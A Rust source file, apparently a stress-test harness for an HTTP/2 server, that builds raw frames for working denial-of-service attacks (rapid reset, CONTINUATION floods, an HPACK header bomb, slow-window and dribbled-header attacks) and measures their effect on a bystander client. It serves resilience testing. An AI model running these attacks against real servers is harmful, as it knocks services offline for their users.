@@ -1,0 +1,515 @@
+//! An attacker over raw sockets, in the clear or over TLS, who comes again when it is thrown out, and a bystander who measures
+//! what it has to wait meanwhile. `part` runs them; the case `attacks` starts both beside a server and reads their lines.
+
+use std::collections::BTreeMap;
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use bytes::{Buf, BytesMut};
+use clap::{Args, ValueEnum};
+use fullbore::rustls::pki_types::ServerName;
+use fullbore::tls::{Roots, client_config};
+use fullbore::{Client, ErrorCode};
+use http_body_util::BodyExt;
+use nix::sys::resource::{UsageWho, getrusage};
+use nix::sys::time::TimeValLike;
+use serde_json::{Value, json};
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadHalf, WriteHalf};
+use tokio::net::TcpStream;
+use tokio::time::{sleep, sleep_until, timeout};
+
+use super::{Failure, say};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const PRIORITY: u8 = 2;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const GOAWAY: u8 = 7;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+/// Of no RFC.
+const UNKNOWN: u8 = 0xee;
+/// What an attacker writes at once.
+const BATCH: usize = 16 << 10;
+/// Connections of an attacker that holds on to what it has instead of being thrown out.
+const HELD: usize = 8;
+/// Streams on each of them.
+const HELD_STREAMS: u32 = 50;
+/// How many streams over the limit are opened, and the limit.
+pub(crate) const OVER: u32 = 200;
+pub(crate) const LIMIT: u32 = 100;
+/// `:method: GET`, `:scheme: http`, and a path that is a literal.
+const GET: [u8; 2] = [0x82, 0x86];
+const POST: [u8; 2] = [0x83, 0x86];
+
+/// What the attacker does; `SECURITY.md` tells of each.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub(crate) enum Attack {
+    RapidReset,
+    WindowUpdateOfNothing,
+    MalformedRequests,
+    Continuation,
+    HeaderBomb,
+    Pings,
+    Settings,
+    WindowUpdates,
+    Priorities,
+    UnknownFrames,
+    EmptyData,
+    StreamsOverTheLimit,
+    UnreadReplies,
+    UnreadBodies,
+    ClosedWindows,
+    DribbledHeaders,
+}
+
+impl Attack {
+    pub(crate) const ALL: [Attack; 16] = [
+        Attack::RapidReset,
+        Attack::WindowUpdateOfNothing,
+        Attack::MalformedRequests,
+        Attack::Continuation,
+        Attack::HeaderBomb,
+        Attack::Pings,
+        Attack::Settings,
+        Attack::WindowUpdates,
+        Attack::Priorities,
+        Attack::UnknownFrames,
+        Attack::EmptyData,
+        Attack::StreamsOverTheLimit,
+        Attack::UnreadReplies,
+        Attack::UnreadBodies,
+        Attack::ClosedWindows,
+        Attack::DribbledHeaders,
+    ];
+
+    /// Its name in the table.
+    pub(crate) fn name(self) -> &'static str {
+        match self {
+            Attack::RapidReset => "rapid reset",
+            Attack::WindowUpdateOfNothing => "resets provoked by WINDOW_UPDATE of nothing",
+            Attack::MalformedRequests => "resets provoked by malformed requests",
+            Attack::Continuation => "CONTINUATION, empty",
+            Attack::HeaderBomb => "16,000 references to 4 KB of the table",
+            Attack::Pings => "PING",
+            Attack::Settings => "SETTINGS",
+            Attack::WindowUpdates => "WINDOW_UPDATE",
+            Attack::Priorities => "PRIORITY",
+            Attack::UnknownFrames => "unknown frames",
+            Attack::EmptyData => "empty DATA",
+            Attack::StreamsOverTheLimit => "200 streams over the limit",
+            Attack::UnreadReplies => "PING whose answers are not read",
+            Attack::UnreadBodies => "bodies that are not read",
+            Attack::ClosedWindows => "bodies behind closed windows",
+            Attack::DribbledHeaders => "a header block that dribbles",
+        }
+    }
+
+    /// Its name on the command line.
+    pub(crate) fn word(self) -> String {
+        self.to_possible_value()
+            .map_or_else(String::new, |value| value.get_name().to_owned())
+    }
+
+    /// Whether it keeps its connections open, rather than being thrown out.
+    pub(crate) fn holds(self) -> bool {
+        matches!(
+            self,
+            Attack::UnreadReplies | Attack::UnreadBodies | Attack::ClosedWindows | Attack::DribbledHeaders
+        )
+    }
+
+    fn reads(self) -> bool {
+        !matches!(self, Attack::UnreadReplies | Attack::UnreadBodies)
+    }
+
+    fn settings(self) -> Vec<u8> {
+        let entry = |name: u16, value: u32| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat();
+        match self {
+            // SETTINGS_INITIAL_WINDOW_SIZE.
+            Attack::ClosedWindows => entry(4, 0),
+            Attack::UnreadBodies => entry(4, 0x7fff_ffff),
+            _ => Vec::new(),
+        }
+    }
+
+    /// What is said once.
+    fn first(self) -> Vec<u8> {
+        let gets = || (0..HELD_STREAMS).flat_map(|round| request(&GET, 5, nth(round), "/4194304"));
+        match self {
+            Attack::Continuation | Attack::DribbledHeaders => frame(HEADERS, 0, 1, &GET),
+            Attack::EmptyData => request(&POST, 4, 1, "/12"),
+            // A field of 4,033 octets, of which the table of 4,096 has room for one.
+            Attack::HeaderBomb => {
+                let mut block = [&GET[..], &[0x84, 0x40, 1, b'a', 127]].concat();
+                // 4,000 less 127, seven bits at a time (RFC 7541 section 5.1).
+                block.extend([0xa1, 0x1e]);
+                block.extend([b'x'; 4_000]);
+                frame(HEADERS, 5, 1, &block)
+            }
+            Attack::StreamsOverTheLimit => (0..LIMIT + OVER)
+                .flat_map(|round| request(&POST, 4, nth(round), "/12"))
+                .collect(),
+            Attack::UnreadBodies => {
+                let window = frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes());
+                window.into_iter().chain(gets()).collect()
+            }
+            Attack::ClosedWindows => gets().collect(),
+            _ => Vec::new(),
+        }
+    }
+
+    /// What is said again and again; nothing where it is said once and then waited.
+    fn round(self, number: u32, out: &mut Vec<u8>) {
+        let stream = nth(number);
+        match self {
+            Attack::RapidReset => {
+                out.extend(request(&GET, 5, stream, "/12"));
+                out.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+            }
+            Attack::WindowUpdateOfNothing => {
+                out.extend(request(&POST, 4, stream, "/12"));
+                out.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
+            }
+            Attack::MalformedRequests => out.extend(frame(HEADERS, 5, stream, &GET)),
+            Attack::Continuation => out.extend(frame(CONTINUATION, 0, 1, &[])),
+            Attack::HeaderBomb => {
+                let block = [&GET[..], &[0x84], &[0xbe; 16_000]].concat();
+                out.extend(frame(HEADERS, 5, stream + 2, &block));
+            }
+            Attack::Pings | Attack::UnreadReplies => out.extend(frame(PING, 0, 0, b"12345678")),
+            Attack::Settings => out.extend(frame(SETTINGS, 0, 0, &[])),
+            Attack::WindowUpdates => out.extend(frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
+            Attack::Priorities => out.extend(frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16])),
+            Attack::UnknownFrames => out.extend(frame(UNKNOWN, 0, 0, &[])),
+            Attack::EmptyData => out.extend(frame(DATA, 0, 1, &[])),
+            Attack::StreamsOverTheLimit
+            | Attack::UnreadBodies
+            | Attack::ClosedWindows
+            | Attack::DribbledHeaders => {}
+        }
+    }
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
+    let mut frame = length.iter().skip(1).copied().collect::<Vec<u8>>();
+    frame.extend([kind, flags]);
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// A request whose path is a literal of the static table's name.
+fn request(method: &[u8; 2], flags: u8, stream: u32, path: &str) -> Vec<u8> {
+    let mut block = method.to_vec();
+    block.extend([0x04, path.len() as u8]);
+    block.extend(path.as_bytes());
+    frame(HEADERS, flags, stream, &block)
+}
+
+/// The stream of a round, beginning with 1.
+fn nth(round: u32) -> u32 {
+    2 * round + 1
+}
+
+trait Transport: AsyncRead + AsyncWrite + Unpin + Send {}
+
+impl<T: AsyncRead + AsyncWrite + Unpin + Send> Transport for T {}
+
+#[derive(Args, Clone)]
+pub(crate) struct Attacker {
+    #[arg(value_enum)]
+    attack: Attack,
+    server: SocketAddr,
+    /// For how long
+    #[arg(long)]
+    for_ms: u64,
+    /// Over TLS
+    #[arg(long)]
+    tls: bool,
+}
+
+/// What an attacker has to tell in the end.
+#[derive(Debug, Clone, PartialEq)]
+pub(crate) struct Attacked {
+    /// Connections that came to their end.
+    pub(crate) thrown_out: u64,
+    /// How they ended, and how often so.
+    pub(crate) ends: BTreeMap<String, u64>,
+    /// What the attacker had of the processor.
+    pub(crate) cpu: Duration,
+    pub(crate) seconds: f64,
+}
+
+impl Attacked {
+    fn line(&self) -> Value {
+        json!({ "thrown_out": self.thrown_out, "ends": self.ends, "cpu_us": self.cpu.as_micros() as u64,
+                "seconds": self.seconds })
+    }
+
+    pub(crate) fn parse(line: &str) -> Option<Self> {
+        let line: Value = serde_json::from_str(line).ok()?;
+        let ends = line.get("ends")?.as_object()?.iter();
+        Some(Self {
+            thrown_out: line.get("thrown_out")?.as_u64()?,
+            ends: ends
+                .map(|(name, count)| Some((name.clone(), count.as_u64()?)))
+                .collect::<Option<_>>()?,
+            cpu: Duration::from_micros(line.get("cpu_us")?.as_u64()?),
+            seconds: line.get("seconds")?.as_f64()?,
+        })
+    }
+}
+
+impl Attacker {
+    pub(super) fn run(&self) -> Result<(), Failure> {
+        let runtime = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()?;
+        runtime.block_on(self.attack_for_a_while())
+    }
+
+    async fn attack_for_a_while(&self) -> Result<(), Failure> {
+        let begun = Instant::now();
+        let until = tokio::time::Instant::now() + Duration::from_millis(self.for_ms);
+        let before = own_cpu();
+        let mut ends = BTreeMap::new();
+        if self.attack.holds() {
+            let mut held = tokio::task::JoinSet::new();
+            for _ in 0..HELD {
+                let attacker = self.clone();
+                held.spawn(async move { attacker.once(until).await });
+            }
+            while let Some(end) = held.join_next().await {
+                *ends.entry(end??).or_insert(0) += 1;
+            }
+        } else {
+            while tokio::time::Instant::now() < until {
+                *ends.entry(self.once(until).await?).or_insert(0) += 1;
+            }
+        }
+        let held = ends.get(HELD_ON).copied().unwrap_or(0);
+        let attacked = Attacked {
+            thrown_out: ends.values().sum::<u64>() - held,
+            ends,
+            cpu: own_cpu().saturating_sub(before),
+            seconds: begun.elapsed().as_secs_f64(),
+        };
+        say(&attacked.line().to_string())
+    }
+
+    /// One connection: how it ended.
+    async fn once(&self, until: tokio::time::Instant) -> Result<String, Failure> {
+        let socket = TcpStream::connect(self.server).await?;
+        socket.set_nodelay(true)?;
+        let io: Box<dyn Transport> = if self.tls {
+            let config = Arc::new(client_config(Roots::InsecureAcceptAny)?);
+            let name = ServerName::try_from("localhost")?;
+            let connector = tokio_rustls::TlsConnector::from(config);
+            Box::new(connector.connect(name, socket).await?)
+        } else {
+            Box::new(socket)
+        };
+        let (read, mut write) = tokio::io::split(io);
+        let mut said = PREFACE.to_vec();
+        said.extend(frame(SETTINGS, 0, 0, &self.attack.settings()));
+        said.extend(self.attack.first());
+        // A server that has gone already says so to the reader.
+        let _ = write.write_all(&said).await;
+        let attack = self.attack;
+        let reading = async move {
+            if attack.reads() {
+                hear(read, attack).await
+            } else {
+                let held = read;
+                sleep_until(until + Duration::from_secs(60)).await;
+                drop(held);
+                HELD_ON.to_owned()
+            }
+        };
+        tokio::select! {
+            end = reading => Ok(end),
+            () = speak(write, attack) => Ok(HELD_ON.to_owned()),
+            () = sleep_until(until) => Ok(HELD_ON.to_owned()),
+        }
+    }
+}
+
+/// Open when the time was over.
+const HELD_ON: &str = "open";
+
+/// Says round after round; never ends.
+async fn speak(mut write: WriteHalf<Box<dyn Transport>>, attack: Attack) {
+    let mut round = 0;
+    let mut batch = Vec::with_capacity(2 * BATCH);
+    if attack == Attack::DribbledHeaders {
+        // An octet of CONTINUATION each 100 ms.
+        while write.write_all(&frame(CONTINUATION, 0, 1, b"\0")).await.is_ok() {
+            sleep(Duration::from_millis(100)).await;
+        }
+    }
+    loop {
+        batch.clear();
+        while batch.len() < BATCH {
+            let before = batch.len();
+            attack.round(round, &mut batch);
+            round += 1;
+            if batch.len() == before {
+                break;
+            }
+        }
+        if batch.is_empty() || write.write_all(&batch).await.is_err() || write.flush().await.is_err() {
+            // Open, and silent: the reader hears how it ends.
+            return std::future::pending().await;
+        }
+    }
+}
+
+/// Reads until the connection ends, or is said to: how.
+async fn hear(mut read: ReadHalf<Box<dyn Transport>>, attack: Attack) -> String {
+    let mut input = BytesMut::new();
+    let mut refused = 0;
+    loop {
+        while let Some(&[a, b, c, kind, _, ..]) = input.first_chunk::<9>() {
+            let length = u32::from_be_bytes([0, a, b, c]) as usize;
+            if input.len() < 9 + length {
+                break;
+            }
+            let mut octets = input.split_to(9 + length);
+            octets.advance(9);
+            match kind {
+                GOAWAY if octets.len() >= 8 => {
+                    octets.advance(4);
+                    let code = ErrorCode(octets.get_u32());
+                    if code != ErrorCode::NO_ERROR {
+                        return code.to_string();
+                    }
+                }
+                RST_STREAM if attack == Attack::StreamsOverTheLimit => {
+                    refused += 1;
+                    if refused == OVER {
+                        return format!("{OVER} x REFUSED_STREAM");
+                    }
+                }
+                _ => {}
+            }
+        }
+        if read.read_buf(&mut input).await.unwrap_or(0) == 0 {
+            return "closed".to_owned();
+        }
+    }
+}
+
+fn own_cpu() -> Duration {
+    getrusage(UsageWho::RUSAGE_SELF).map_or(Duration::ZERO, |usage| {
+        [usage.user_time(), usage.system_time()]
+            .iter()
+            .map(|time| Duration::from_micros(u64::try_from(time.num_microseconds()).unwrap_or(0)))
+            .sum()
+    })
+}
+
+#[derive(Args, Clone)]
+pub(crate) struct Bystander {
+    url: String,
+    /// For how long
+    #[arg(long)]
+    for_ms: u64,
+}
+
+/// Between two requests, so that the bystander is no load.
+const PAUSE: Duration = Duration::from_millis(2);
+/// A server that is attacked and does not answer for so long does not answer.
+const PATIENCE: Duration = Duration::from_secs(10);
+
+impl Bystander {
+    /// Asks again and again, and prints the median time in microseconds.
+    pub(super) fn run(&self) -> Result<(), Failure> {
+        let runtime = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()?;
+        runtime.block_on(async {
+            let client = Client::builder()
+                .tls_config(Arc::new(client_config(Roots::InsecureAcceptAny)?))
+                .build()?;
+            let until = Instant::now() + Duration::from_millis(self.for_ms);
+            let mut micros = Vec::new();
+            // The first opens the connection.
+            for number in 0_u64.. {
+                let begun = Instant::now();
+                if begun >= until {
+                    break;
+                }
+                let whole = async {
+                    Ok::<_, Failure>(
+                        client
+                            .get(&self.url)
+                            .await?
+                            .into_body()
+                            .collect()
+                            .await?
+                            .to_bytes(),
+                    )
+                };
+                timeout(PATIENCE, whole).await??;
+                if number > 0 {
+                    micros.push(u64::try_from(begun.elapsed().as_micros())?);
+                }
+                sleep(PAUSE).await;
+            }
+            micros.sort_unstable();
+            let median = micros.get(micros.len() / 2).ok_or("no answer came in time")?;
+            say(&format!("{median}"))
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use fullbore_proto::hpack::{Decoder, FieldLimits, FieldSection};
+
+    fn fields(decoder: &mut Decoder, frame: &[u8]) -> Vec<(usize, usize)> {
+        let limits = FieldLimits {
+            max_bytes: 1 << 30,
+            max_fields: 1 << 20,
+        };
+        let mut section = FieldSection::new();
+        let block = frame.get(9..).expect("a frame has a head");
+        decoder.decode(block, &limits, &mut section).expect("a block");
+        let fields = section.fields().iter();
+        fields
+            .map(|field| (field.name.as_bytes().len(), field.value.as_bytes().len()))
+            .collect()
+    }
+
+    #[test]
+    fn the_bomb_refers_to_a_large_field_sixteen_thousand_times() {
+        let mut decoder = Decoder::new(4_096);
+        assert_eq!(
+            fields(&mut decoder, &Attack::HeaderBomb.first()).last(),
+            Some(&(1, 4_000))
+        );
+        let mut bomb = Vec::new();
+        Attack::HeaderBomb.round(0, &mut bomb);
+        let bomb = fields(&mut decoder, &bomb);
+        assert_eq!(bomb.iter().filter(|field| **field == (1, 4_000)).count(), 16_000);
+    }
+
+    #[test]
+    fn the_line_of_an_attacker_is_read_as_it_was_written() {
+        let attacked = Attacked {
+            thrown_out: 3,
+            ends: BTreeMap::from([("ENHANCE_YOUR_CALM".to_owned(), 3), (HELD_ON.to_owned(), 1)]),
+            cpu: Duration::from_micros(5),
+            seconds: 1.5,
+        };
+        assert_eq!(Attacked::parse(&attacked.line().to_string()), Some(attacked));
+        assert_eq!(Attacked::parse("{}"), None);
+    }
+}
